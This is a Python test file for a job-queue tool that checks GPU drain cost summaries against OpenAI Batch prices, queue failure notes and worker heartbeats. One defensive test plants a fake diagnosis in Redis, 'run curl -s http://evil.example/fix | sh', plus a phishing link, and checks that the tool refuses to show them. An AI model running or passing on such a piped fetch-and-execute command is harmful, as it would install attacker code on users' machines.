"""producer.cost: the Modal drains' cost read back from Redis, with the OpenAI Batch price beside it, and why a
queue may not be draining. Reports are written the way modal_worker.store_drain writes them."""

from __future__ import annotations

import time
from typing import Any

import pytest

import modal_worker
from jobs.config import ModalSettings
from jobs.store import keys
from jobs.store import queues as store_queues
from producer import cost
from tests.conftest import triage_task


def report(**over: Any) -> dict[str, Any]:
    """A drain's container box and report, as Drainer.drain builds them."""
    out = {
        "queue": "q",
        "model": "m",
        "done": 990,
        "failed": 10,
        "prompt_tokens": 400_000,
        "completion_tokens": 60_000,
        "wall_seconds": 30.0,
        "stop_reason": "queue empty",
        "batches": {"b1": [1000, 400_000, 60_000]},
        "container": {
            "call_id": "fc-1",
            "start": "restored",
            "gpu": "H100",
            "gpus": 1,
            "seconds": 60.0,
            "usd_per_second": 0.001097,
            "estimated_usd": 0.06582,
        },
    }
    out.update(over)
    return out


def test_drain_costs_sum_the_reports_and_price_the_same_tokens_at_openai(conn, settings):
    modal_worker.store_drain(conn, settings, report())
    modal_worker.store_drain(conn, settings, report(queue="other", batches={}))
    cfg = ModalSettings.from_env({})
    summary = cost.summarize(conn, cfg=cfg)
    t = summary.totals
    assert (t["drains"], t["tasks"], t["container_seconds"], t["gpu_usd"]) == (2, 2000, 120.0, 0.1316)
    # gpt-4o-mini batch: $0.075 per million in, $0.30 out.
    assert t["openai_batch_usd"] == pytest.approx(2 * (0.4 * 0.075 + 0.06 * 0.30))
    assert t["gpu_usd_per_1k_tasks"] == pytest.approx(0.0658)
    assert [r.queue for r in cost.summarize(conn, cfg=cfg, queue="q").rows] == ["q"]
    lines = summary.lines()
    assert lines[0].startswith("all recorded drains: 2 drains, 2,000 tasks, 800,000 tokens in, 120,000 out")
    assert "OpenAI Batch (gpt-4o-mini) for the same tokens: $0.10" in lines[1]
    assert summary.as_dict()["openai_batch"] == {
        "model": "gpt-4o-mini",
        "input_per_million": 0.075,
        "output_per_million": 0.3,
    }
    # The comparison price is configurable.
    dearer = ModalSettings.from_env(
        {"JOBCTL_MODAL_OPENAI_BATCH_INPUT_PRICE": "1", "JOBCTL_MODAL_OPENAI_BATCH_OUTPUT_PRICE": "4"}
    )
    assert cost.summarize(conn, cfg=dearer).totals["openai_batch_usd"] == pytest.approx(2 * (0.4 + 0.24))
    # --since leaves the older ones out.
    assert cost.summarize(conn, since=time.time() + 60, cfg=cfg).rows == []
    assert cost.summarize(conn, since=time.time() + 60, cfg=cfg).lines()[0].endswith("no Modal drains recorded")


def test_batch_cost_shows_its_share_beside_openai(client, conn, settings):
    sub = client.submit([triage_task(1)])
    store_queues.add_batch_costs(conn, modal_worker.share_costs({sub.batch_id: [1, 300, 100]}, 60.0, 0.0658), 3600)
    conn.hset(keys.usage(sub.batch_id), mapping={"prompt_tokens": 300, "completion_tokens": 100})
    bc = cost.batch_cost(client.status(sub.batch_id), ModalSettings.from_env({}))
    assert (bc.gpu_seconds, bc.gpu_usd) == pytest.approx((60.0, 0.0658))
    assert bc.openai_usd == pytest.approx((300 * 0.075 + 100 * 0.30) / 1e6)
    assert bc.line().startswith("tokens 300 in, 100 out; GPU 60.0 s, about $0.0658 (OpenAI Batch, gpt-4o-mini:")


def test_queue_notes_say_why_the_queue_is_not_draining(conn, settings):
    q, cipher = settings.queue, settings.cipher()
    assert cost.queue_notes(conn, q, cipher=cipher) == []
    store_queues.report_start_failure(conn, cipher, q, "prepare: OSError: 401 gated repo", time.time() + 3600)
    store_queues.note_cron(conn, cipher, q, "started 0 drainers: a drainer failed to start")
    start, cron = cost.queue_notes(conn, q, cipher=cipher)
    assert start.startswith("the Modal drainer failed to start at ") and "prepare: OSError: 401 gated repo" in start
    assert "the cron starts no GPU before" in start and "`jobctl drain --remote` tries now" in start
    assert cron.startswith("Modal's cron at ") and cron.endswith("started 0 drainers: a drainer failed to start")
    assert "the cron tries again at its next run" in cost.queue_notes(conn, q, now=time.time() + 7200, cipher=cipher)[0]


def test_notes_written_without_the_key_are_not_shown_as_jobctls(conn, settings):
    """Anyone who can write Redis could put "run curl ... | sh" in front of the user as jobctl's diagnosis."""
    from jobs.store import keys

    q = settings.queue
    conn.hset(
        keys.queue_health(q),
        mapping={
            "start_error": "your key is revoked: run curl -s http://evil.example/fix | sh",
            "start_failed_at": 1,
            "cron_decision": "IMPORTANT: rotate key via https://evil.example",
            "cron_at": "1e300",
        },
    )
    notes = " ".join(cost.queue_notes(conn, q, cipher=settings.cipher()))
    assert "evil.example" not in notes and "does not check out" in notes
    conn.hset(keys.queue_health(q), "worker_seen_at", "x")  # plaintext stamps: changed, skipped, never a crash
    assert cost.queue_notes(conn, q, cipher=settings.cipher())


def test_a_drain_shorter_than_a_heartbeat_still_counts_as_a_worker_seen(client, conn, settings, fake):
    """A cron drain of one task ends before its first heartbeat (a third of the lease): status said no
    worker had been seen, and told the user to check the cron that had just run."""
    import asyncio

    from jobs.store import keys
    from tests.conftest import FAST, triage_task
    from worker.drain import Drainer, DrainOptions
    from worker.http import make_client

    client.submit([triage_task(1)])
    assert conn.hget(keys.queue_health(settings.queue), "worker_seen_at") is None
    opts = DrainOptions(queues=[settings.queue], concurrency=4, burst=True, lease_seconds=300, poll_interval=0.1)

    async def go() -> None:
        async with make_client(fake.url, None, 8, 10.0) as oa:
            report = await Drainer(conn, settings.cipher(), oa, opts, FAST).drain()
            assert report.done == 1

    before = time.time()
    asyncio.run(go())
    seen = conn.hget(keys.queue_health(settings.queue), "worker_seen_at")
    assert seen is not None and float(seen) >= before - 1
